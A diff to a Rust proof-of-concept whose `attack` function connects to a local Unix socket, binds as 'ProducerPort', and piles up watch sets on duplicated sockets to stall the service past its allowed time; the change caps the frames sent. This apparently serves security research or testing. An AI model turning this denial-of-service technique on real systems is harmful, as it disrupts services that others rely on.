@@ -25,6 +25,8 @@ const NOBODY: u32 = 65534;
 /// Sets of watches, each of all duplicates of the socket: a call takes much longer than what is allowed.
 const SETS_MAX: usize = 700;
 const DUPLICATES: usize = 256;
+/// Frames that are sent at most: a connection that is not cut by then is never cut.
+const FRAMES_MAX: usize = 2 * SETS_MAX;
 const BIND: &[u8] = b"\x12\0\0\0\x10\x01\x1a\x0e\x0a\x0cProducerPort";
 
 /// A set of watches of all of `sockets`; None if there can be no more.
@@ -37,7 +39,7 @@ fn make_watches(sockets: &[UnixStream]) -> Option<OwnedFd> {
     Some(set)
 }
 
-/// Adds watches and sends empty frames until the connection is closed.
+/// Adds watches and sends empty frames until the connection is closed, or there were too many.
 fn attack(socket: &SocketAddr) {
     if geteuid().is_root() {
         // Of this thread alone.
@@ -49,7 +51,10 @@ fn attack(socket: &SocketAddr) {
     (&stream).read_exact(&mut [0; 4]).unwrap();
     let duplicates: Vec<_> = (0..DUPLICATES).map(|_| stream.try_clone().unwrap()).collect();
     let mut sets = Vec::new();
-    while (&stream).write_all(&[0; 4]).is_ok() {
+    for _ in 0..FRAMES_MAX {
+        if (&stream).write_all(&[0; 4]).is_err() {
+            return;
+        }
         if sets.len() < SETS_MAX {
             sets.extend(make_watches(&duplicates));
         }
